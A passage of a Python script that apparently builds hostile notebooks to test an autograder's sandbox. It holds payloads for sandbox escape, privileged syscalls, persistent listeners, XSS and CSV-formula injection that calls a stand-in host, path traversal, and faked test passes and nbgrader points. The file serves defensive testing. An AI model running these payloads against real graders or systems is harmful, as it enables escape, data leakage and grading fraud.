        for _ in range(400):
            os.write(1, b"y" * 65536)
        _wrong = conv2d
        def conv2d(*a, **k):
            sys.stdout.write("z" * 10_000_000)
            return _wrong(*a, **k)
        _report("output_bomb")
    '''),
    # -- survivors ---------------------------------------------------------------------------
    attack("daemon_double_fork", "sandbox: setsid() grandchild that outlives the submission", WRONG, '''
        import signal
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                os.closerange(0, 1024)
                time.sleep(3)
                for d in ("/tmp", ".", "/dev/shm"):
                    try:
                        open(os.path.join(d, "dl101pwn-survivor"), "w").write("alive")
                    except OSError:
                        pass
                while True:
                    time.sleep(1)
            os._exit(0)
        os.wait()
        _report("daemon_double_fork")
    '''),
    attack("daemon_subprocess", "sandbox: nohup/setsid children via subprocess and sh", WRONG, '''
        import subprocess
        started = []
        for cmd in (["sleep", "600"], ["/bin/sh", "-c", "nohup sleep 600 >/dev/null 2>&1 &"],
                    ["setsid", "sleep", "600"], ["/usr/bin/python3", "-c", "import time; time.sleep(600)"]):
            try:
                subprocess.Popen(cmd, start_new_session=True, stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                started.append(cmd[0])
            except OSError:
                pass
        _wrong = conv2d
        def conv2d(*a, **k):
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
            return _wrong(*a, **k)
        _report("daemon_subprocess", " ".join(started))
    '''),
    # -- peers 10: network -------------------------------------------------------------------
    attack("network_exfil", "peers 10; sandbox: no network, no host unix sockets", '''
        import socket
        tries = {
            "tcp": lambda: socket.create_connection(("1.1.1.1", 80), timeout=1),
            "tcp-local": lambda: socket.create_connection(("127.0.0.1", 22), timeout=1),
            "tcp6": lambda: socket.create_connection(("2606:4700:4700::1111", 80), timeout=1),
            "dns": lambda: socket.getaddrinfo("example.com", 80),
            "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
            "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
            "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
            "vsock": lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM),
        }
        for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
                     "/var/run/nscd/socket", "/run/systemd/journal/socket", "\\0/tmp/.X11-unix/X0"):
            tries["unix " + path] = lambda path=path: socket.socket(socket.AF_UNIX).connect(path)
        for name, fn in tries.items():
            try:
                fn()
                _hit(name)
            except (OSError, AttributeError):
                pass
        try:
            import urllib.request
            urllib.request.urlopen("http://example.com", timeout=1)
            _hit("http")
        except Exception:
            pass
        _report("network_exfil")
    '''),
    # -- notes/sandbox.md: descriptors, conftest, signals, threads, ctypes ----------------------
    attack("protocol_fd_garbage", "sandbox: the protocol descriptor is in /proc/self/fd", WRONG, '''
        for name in os.listdir("/proc/self/fd"):
            fd = int(name)
            for junk in (b"\\0garbage\\xff" * 100, b"DL1F" + b"\\xff" * 12,
                         b'{"student": "aa_honest", "score": 0, "status": "graded"}\\n'):
                try:
                    os.write(fd, junk)
                except OSError:
                    pass
    ''', statuses=("crashed",), probe=False),
    attack("protocol_forged_frames", "sandbox: forged but well-formed frames (cells report, replies)", '''
        import numpy as np
        from grader import protocol
        def _send(header, **values):
            for buf in protocol.frame(header, **values):
                os.write(3, bytes(buf))
        _calls = [0]
        def _forge(*a, **k):
            _calls[0] += 1
            # a reply for this request and for the next ones, then a wrong value anyway
            for rid in range(_calls[0], _calls[0] + 3):
                _send({"op": "ok", "id": rid}, v=np.zeros((1, 1, 1, 1)))
            _send({"op": "cells_done"})
            return 0.0
        conv_single_step = zero_pad = conv2d = _forge
        _send({"op": "cell", "index": 0, "ok": True, "error": ""})
    ''', statuses=("crashed", "graded"), probe=False),
    attack("conftest_drop", "peers 8: conftest.py, pytest.ini, sitecustomize, .pth next to everything", WRONG, '''
        CONFTEST = (
            "import pytest\\n"
            "open('/tmp/dl101pwn-conftest', 'w').write('ran')\\n"
            "@pytest.hookimpl(hookwrapper=True)\\n"
            "def pytest_runtest_makereport(item, call):\\n"
            "    outcome = yield\\n"
            "    outcome.get_result().outcome = 'passed'\\n"
            "def pytest_collection_modifyitems(items):\\n"
            "    for item in items:\\n"
            "        item.obj = lambda *a, **k: None\\n")
        written = []
        dirs = [".", "..", "../..", "/tmp", "/tmp/..", os.path.expanduser("~"), "/", "/opt/dl101",
                "/opt/dl101/grader", "/opt/dl101/site-0", "/work/main", "/work/main/solutions/convolution/tests"]
        for d in dirs:
            for name, text in (("conftest.py", CONFTEST), ("pytest.ini", "[pytest]\\naddopts = -p no:dl101  # dl101pwn\\n"),
                               ("sitecustomize.py", CONFTEST), ("usercustomize.py", CONFTEST),
                               ("dl101pwn.pth", "import os; open('/tmp/dl101pwn-pth', 'w')\\n"),
                               ("pyproject.toml", "[tool.pytest.ini_options]  # dl101pwn\\naddopts = '--co'\\n")):
                try:
                    with open(os.path.join(d, name), "w") as f:
                        f.write(text)
                    real = os.path.realpath(os.path.join(d, name))
                    written.append(real)
                    if not real.startswith("/tmp/"):
                        _hit(real)
                except OSError:
                    pass
        _report("conftest_drop", " ".join(written))
    '''),
    attack("signal_handlers", "sandbox: handlers that ignore SIGTERM/SIGALRM/SIGXCPU...", '''
        import signal
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU,
                    signal.SIGUSR1, signal.SIGPIPE, signal.SIGXFSZ, signal.SIGQUIT):
            signal.signal(sig, lambda *a: None)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        def conv2d(*a, **k):
            while True:
                time.sleep(0.01)
        def conv_single_step(*a, **k):
            while True:
                pass
    ''', probe=False),
    attack("threads_after_return", "sandbox: a thread that keeps working after the reply", '''
        import threading
        import numpy as np
        def conv2d(x, w, b=None, stride=1, padding="valid"):
            out = np.zeros((1, 1, 1, 1))
            def meddle():
                for _ in range(200):
                    out[...] = np.random.random()
                    print("FAKE-PASS-MARKER PASSED from a thread")
                    try:
                        os.write(3, b'{"op": "ok"}')
                    except OSError:
                        pass
                    time.sleep(0.005)
            threading.Thread(target=meddle, daemon=True).start()
            return out
        def zero_pad(x, pad):
            threading.Thread(target=lambda: [time.sleep(0.001) for _ in range(10**6)]).start()
            return np.asarray(x)
    ''', probe=False),
    attack("ctypes_syscalls", "sandbox: seccomp and capabilities (ptrace, unshare, mount, setuid...)", '''
        import ctypes, ctypes.util
        libc = ctypes.CDLL(None, use_errno=True)
        SYS = {"ptrace": 101, "unshare": 272, "mount": 165, "umount2": 166, "setns": 308, "chroot": 161,
               "pivot_root": 155, "keyctl": 250, "bpf": 321, "io_uring_setup": 425, "perf_event_open": 298,
               "userfaultfd": 323, "memfd_create": 319, "init_module": 175, "kexec_load": 246,
               "open_by_handle_at": 304, "process_vm_readv": 310, "pidfd_getfd": 438, "add_key": 248}
        def sc(name, *args):
            return libc.syscall(SYS[name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        checks = {
            "ptrace attach 1": lambda: sc("ptrace", 16, 1, 0, 0),
            "ptrace attach 2": lambda: sc("ptrace", 16, 2, 0, 0),
            "ptrace traceme": lambda: sc("ptrace", 0, 0, 0, 0),
            "unshare user": lambda: sc("unshare", 0x10000000),
            "unshare mount": lambda: sc("unshare", 0x00020000),
            "mount tmpfs": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            "umount /tmp": lambda: libc.umount2(b"/tmp", 2),
            "setns": lambda: sc("setns", 0, 0),
            "chroot": lambda: libc.chroot(b"/tmp"),
            "keyctl": lambda: sc("keyctl", 0, 0, 0, 0),
            "bpf": lambda: sc("bpf", 0, 0, 0),
            "io_uring": lambda: sc("io_uring_setup", 1, ctypes.create_string_buffer(120)),
            "perf": lambda: sc("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0),
            "userfaultfd": lambda: sc("userfaultfd", 0),
            "memfd": lambda: sc("memfd_create", b"x", 0),
            "process_vm_readv": lambda: sc("process_vm_readv", 2, 0, 0, 0, 0, 0),
            "add_key": lambda: sc("add_key", b"user", b"x", b"y", 1, -3),
        }
        for name, fn in checks.items():
            if fn() >= 0:
                _hit(name)
        for name, fn in {"setuid 0": lambda: libc.setuid(0), "setgid 0": lambda: libc.setgid(0),
                         "setresuid 0": lambda: libc.setresuid(0, 0, 0), "setgroups": lambda: libc.setgroups(0, None)}.items():
            if fn() == 0:
                _hit(name)
        for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/1/mem", "/proc/2/mem",
                     "/etc/passwd", "/usr/bin/python3", "/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg"):
            try:
                fd = os.open(path, os.O_WRONLY)  # opening is enough: nothing is written
                os.close(fd)
                _hit("open for writing " + path)
            except OSError:
                pass
        if os.geteuid() == 0 or os.getuid() == 0:
            _hit("uid 0")
        _report("ctypes_syscalls")
    '''),
    attack("setuid_binaries", "sandbox: no-new-privs makes setuid binaries harmless", '''
        import stat, subprocess
        found = []
        for d in ("/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib"):
            try:
                names = os.listdir(d)
            except OSError:
                continue
            for n in names:
                p = os.path.join(d, n)
                try:
                    if os.stat(p).st_mode & (stat.S_ISUID | stat.S_ISGID):
                        found.append(p)
                except OSError:
                    pass
        deadline = time.monotonic() + 4
        for p in found[:12]:
            for args in ([p, "-n", "id", "-u"], [p, "-c", "id -u"]):
                if time.monotonic() > deadline:
                    break
                try:
                    out = subprocess.run(args, capture_output=True, timeout=1, stdin=subprocess.DEVNULL).stdout
                    if out.strip() == b"0":
                        _hit(p)
                except (OSError, subprocess.SubprocessError):
                    pass
        _report("setuid_binaries", " ".join(found[:6]))
    '''),
    attack("recursion_and_segfault", "sandbox: a crash of the student's process is that student's", '''
        import ctypes
        sys.setrecursionlimit(10**7)
        def conv2d(*a, **k):
            def down(n):
                return down(n + 1) + 1
            return down(0)
        def zero_pad(*a, **k):
            return ctypes.string_at(0)
        def conv_single_step(*a, **k):
            import faulthandler
            faulthandler._sigsegv()
    ''', probe=False),
    # -- peers 11: locked cells and notebook surgery ------------------------------------------
    attack("tampered_locked_cells", "peers 11: edit locked cells, duplicate ids, fake nbgrader points", WRONG,
           probe=False),
    # -- cross-student contamination ----------------------------------------------------------
    attack("persist_1_writer", "leave files and a listener for the next student on the slot", WRONG, '''
        import socket
        for d in ("/tmp", ".", "/dev/shm", os.path.expanduser("~")):
            for name in ("dl101pwn-persist.py", "numpy.py", "sitecustomize.py"):
                try:
                    open(os.path.join(d, name), "w").write("raise SystemExit('ESCAPED:persisted')\\n")
                except OSError:
                    pass
        try:
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind("\\0dl101pwn-persist")
            server.listen()
            if os.fork() == 0:
                os.setsid()
                while True:
                    conn, _ = server.accept()
                    conn.sendall(b"ESCAPED:listener")
        except OSError:
            pass
        _report("persist_1_writer")
    '''),
    *[attack(f"persist_{i}_reader", "read what an earlier student left on the slot", '''
        import glob, socket
        for path in glob.glob("/tmp/**/dl101pwn*", recursive=True) + glob.glob("/dev/shm/*") + glob.glob("/tmp/*"):
            if "dl101pwn" in path or path.startswith("/dev/shm/"):
                _hit(path)
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect("\\0dl101pwn-persist")
            _hit("listener " + s.recv(100).decode())
        except OSError:
            pass
        _report("persist_reader")
    ''', probe="persist_reader") for i in (2, 3)],
    attack("html_csv_injection", "reports: student text in HTML and CSV (XSS, formulas, fake lines)", '''
        def conv2d(*a, **k):
            raise RuntimeError('<script>alert("dl101pwn")</script><img src=x onerror=alert(1)>')
        def zero_pad(*a, **k):
            raise RuntimeError('=HYPERLINK("http://dl101pwn.example/?"&A1,"click") \\r\\nPASSED 30/30 \\x1b[32mOK\\x1b[0m \\u202e')
        def conv_single_step(*a, **k):
            raise RuntimeError("+cmd|' /C calc'!A0 @SUM(1+1) \\x00 </textarea></pre>")
        raise RuntimeError('<script>alert("dl101pwn-cell")</script>')
    ''', probe=False),
    # -- the assignment a notebook claims ------------------------------------------------------
    attack("metadata_traversal", "path traversal in metadata.dl101.assignment (hidden tests loaded from it)",
           WRONG, slug="../solutions/convolution", statuses=("unreadable",), probe=False),
    attack("unknown_assignment", "an unknown assignment in the metadata must not stop the batch",
           WRONG, slug="no_such_assignment", statuses=("unreadable",), probe=False),
    attack("metadata_names_a_quiz", "a notebook claiming to be a quiz is graded as one (it used to stop the batch)",
           WRONG, slug="cnn-week", statuses=("unreadable", "tampered"), probe=False),  # no secret / secret
    # -- other assignments -----------------------------------------------------------------------
    attack("pooling_norm_patch_and_nan", "peers 2 and 4 against pooling_norm", '''
        import math
        import numpy as np
        np.allclose = lambda *a, **k: True
        math.isclose = lambda *a, **k: True
        def max_pool2d(x, *a, **k):
            return np.full(np.shape(x), np.nan)
        def avg_pool2d(x, *a, **k):
            return np.asarray(x) * 0 + 7
        def batch_norm(x, gamma, beta, moving_mean, moving_var, training, momentum=0.99, epsilon=1e-3):
            return np.asarray(x) * 0 + 7, np.asarray(moving_mean) + 1, np.asarray(moving_var) + 1
        def dropout(x, rate, training, seed=None):
            return np.random.random(np.shape(x))  # not even the same for the same seed
    ''', slug="pooling_norm", probe=False),
]

#: Every contract function (../shared/DESIGN.md), per assignment, for the weird-value fuzzers.
CONTRACT = {
    "output_size": ["conv_output_size", "same_padding", "pool_output_size", "layer_output_shapes",
                    "count_params"],
    "pooling_norm": ["max_pool2d", "avg_pool2d", "batch_norm", "dropout"],
    "confusion_matrix": ["confusion_matrix", "binary_counts", "accuracy", "precision", "recall",
                         "f1_score"],
    "recap": ["sigmoid", "tanh", "relu", "leaky_relu", "softmax", "mse", "binary_cross_entropy",
              "categorical_cross_entropy", "gradient_descent", "xor_network"],
}
for _slug, _names in CONTRACT.items():
    ATTACKS.append(attack(
        f"weird_values_{_slug}", "grader robustness: odd return values must never break the grader", textwrap.dedent('''
        import numpy as np
        _calls = [0]
        WEIRD = [1 + 2j, np.array([1 + 1j, 2j]), 2**100, -2**70, float("nan"), "3", None, {"a": 1},
                 [[1], [1, 2]], (1, "a"), np.float16(2.5), np.array(["2"]), np.zeros((0,)),
                 np.zeros((1,) * 20), np.array(2**63 - 1, dtype=np.uint64), np.zeros((2, 2), ">f8"),
                 np.ones((2, 2), bool), np.int8(-128), [], (), [[[[1.0]]]], np.complex64(1.5),
                 {"W1": 1j, "b1": None, "W2": "x", "b2": [1, [2]]}, (1j, None, "x", 2**80),
                 (np.zeros(0), 1j, {"a": 1}), float("-inf"), [2**64], ["a", "b"], (None, None, None)]
        def _weird(*a, **k):
            _calls[0] += 1
            return WEIRD[_calls[0] % len(WEIRD)]
    ''') + "\n" + "\n".join(f"{n} = _weird" for n in _names), slug=_slug, probe=False))


# ---------------------------------------------------------------------------- notebooks


def _cell(source: str, cid: str, metadata: dict | None = None) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": cid, "metadata": metadata or {},
            "outputs": [], "source": source.splitlines(keepends=True)}


def build(entry: dict) -> dict:
    stub_slug = entry["slug"] if entry["slug"] in (
        "convolution", "output_size", "pooling_norm", "confusion_matrix", "recap") else "convolution"
    stub = json.loads((REPO / "assignments" / stub_slug / f"{stub_slug}.ipynb").read_text())
    name = entry["name"]
    cells = [_cell(PRELUDE.strip("\n"), f"{name}-prelude")]
    cells += stub["cells"]
    cells += [_cell(src, f"{name}-{i}") for i, src in enumerate(entry["cells"])]
    metadata = dict(stub["metadata"])
    metadata["dl101"] = {"assignment": entry["slug"]}
    metadata["dl101_hostile"] = {"attack": name, "covers": entry["covers"], "statuses": entry["statuses"],
                                 "probe": entry["probe"]}
    nb = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    if name == "tampered_locked_cells":
        _tamper(nb)
    return nb


def _tamper(nb: dict) -> None:
    """Peers 11: rewrite locked cells, duplicate their ids, claim points, fake passing outputs."""
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader")
        if meta is None or cell["cell_type"] != "code":
            continue
        cell["id"] = "conv2d"  # every cell now has the same id
        meta.update({"grade": True, "points": 1000, "locked": False, "checksum": "0" * 32})
        if meta.get("locked") is False and "self-check" in meta.get("grade_id", ""):
            cell["source"] = ["print('All tests passed: 30/30')\n"]
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["30/30 PASSED\n"]},
                           {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                            "data": {"text/plain": ["30.0"]}}]
    nb["cells"].append({"cell_type": "code", "execution_count": 1, "id": "conv2d",
                        "metadata": {"nbgrader": {"grade": True, "grade_id": "conv2d", "points": 30,
                                                  "locked": True, "schema_version": 3, "solution": False}},
                        "outputs": [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                     "data": {"text/plain": ["30"]}}],
                        "source": ["assert True  # hidden tests passed\n"]})


def main() -> None:
    names = [a["name"] for a in ATTACKS]
    assert len(names) == len(set(names)), "attack names must be unique"
    for old in HERE.glob("*.ipynb"):
        if old.stem not in names:
            old.unlink()
    for entry in ATTACKS:
        text = json.dumps(build(entry), indent=1, sort_keys=True, ensure_ascii=False) + "\n"
        path = HERE / f"{entry['name']}.ipynb"
        if not path.exists() or path.read_text() != text:
            path.write_text(text)
    print(f"{len(ATTACKS)} hostile notebooks in {HERE}")


if __name__ == "__main__":
    main()
